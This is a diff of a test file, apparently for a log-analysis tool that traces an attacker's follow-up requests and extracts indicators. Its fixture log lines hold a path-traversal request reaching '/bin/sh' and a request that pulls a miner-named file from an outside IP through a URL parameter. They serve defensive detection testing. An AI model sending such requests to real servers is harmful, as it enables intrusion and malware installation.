@@ -53,7 +53,13 @@ test("what a successful attacker did next: every later request, with the files n
     f,
     L("203.0.113.5", "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 200, 7, "12/Mar/2024:03:14:07 +0000") +
       L("198.51.100.2", "GET /index.html", 200, 5120, "12/Mar/2024:03:15:00 +0000") +
-      L("203.0.113.5", "GET /uploads/kdevtmpfsi", 200, 1234, "12/Mar/2024:03:16:00 +0000") +
+      L(
+        "203.0.113.5",
+        "GET /index.php?u=http://198.51.100.9/kdevtmpfsi",
+        200,
+        1234,
+        "12/Mar/2024:03:16:00 +0000",
+      ) +
       L("203.0.113.55", "GET /other", 200, 1, "12/Mar/2024:03:17:00 +0000"),
   );
   const r = await logs([f]);
@@ -62,7 +68,10 @@ test("what a successful attacker did next: every later request, with the files n
     a.next.map((n: { line: number }) => n.line),
     [3],
   );
-  assert.ok(a.indicators.files.includes("kdevtmpfsi") || a.next[0].request.includes("kdevtmpfsi"));
+  assert.ok(a.indicators.files.includes("kdevtmpfsi"), JSON.stringify(a.indicators));
+  const f41773 = r.doc.findings.find((x: { data: { ip: string } }) => x.data.ip === "203.0.113.5");
+  assert.ok(f41773.data.indicators.files.includes("kdevtmpfsi"));
+  assert.ok(f41773.data.indicators.ips.includes("198.51.100.9"));
 });
 
 test("a site that answers 200 to everything does not turn probes into successes", async (t) => {
